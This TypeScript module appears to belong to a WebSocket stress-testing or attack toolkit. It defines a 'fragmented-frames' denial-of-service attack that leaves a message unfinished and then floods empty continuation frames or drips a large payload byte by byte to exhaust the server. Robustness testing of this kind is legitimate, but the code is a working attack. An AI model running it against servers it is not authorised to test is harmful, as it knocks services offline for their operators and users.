import type { Attack } from '../attack.ts';
import { flood, frame, OPCODES } from '../frames.ts';

const START = frame({ opcode: OPCODES.text, isFinal: false, payload: Buffer.from('[') });
const EMPTY = Buffer.concat(Array(1000).fill(frame({ opcode: OPCODES.continuation, isFinal: false })));

/** One message in endless fragments, and single bytes in separate packets. */
export const fragmentedFrames: Attack = {
  name: 'fragmented-frames',
  run: (target, signal) =>
    target.repeat(6, async (address, loop) => {
      const socket = await target.upgraded(address);
      if (!socket) return;
      socket.setNoDelay(true).write(START);
      if (loop % 2 === 0) return flood(socket, EMPTY, signal);
      const slow = frame({ opcode: OPCODES.continuation, payload: Buffer.alloc(15_000, '[') });
      for (const byte of slow) {
        if (socket.destroyed || signal.aborted) break;
        socket.write(Buffer.from([byte]));
        await target.pause(1);
      }
      socket.destroy();
    }),
};
